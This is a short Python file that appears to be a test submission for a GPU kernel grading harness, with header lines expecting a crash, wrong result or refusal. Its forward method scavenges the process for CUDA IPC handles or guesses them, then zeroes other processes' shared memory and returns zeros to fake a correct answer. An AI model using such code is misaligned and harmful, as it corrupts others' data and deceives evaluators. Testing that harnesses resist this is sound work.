# expect: crashed|wrong|refused no-own-kernel | .
# with: own_norm
"""Opens every handle to shared memory that it finds in its process or makes up, and zeroes what is there."""
import ctypes
import gc


class Handle(ctypes.Structure):
    _fields_ = (("reserved", ctypes.c_char * 64),)


class ModelNew(Norm):
    def forward(self, x):
        driver, opened = ctypes.CDLL("libcuda.so.1"), 0
        texts = [
            value for found in gc.get_objects() if isinstance(found, dict)
            for value in list(found.values()) if isinstance(value, str) and len(value) == 128
        ]
        for text in [*texts, "00" * 64, "ff" * 64]:
            try:
                handle = Handle.from_buffer_copy(bytes.fromhex(text))
            except ValueError:
                continue
            pointer = ctypes.c_void_p()
            if driver.cuIpcOpenMemHandle_v2(ctypes.byref(pointer), handle, ctypes.c_uint(1)) == 0:
                driver.cuMemsetD8_v2(pointer, ctypes.c_ubyte(0), ctypes.c_size_t(x.nbytes))
                opened += 1
        if not opened:
            raise PermissionError("nothing of others can be opened")
        return torch.zeros_like(x)
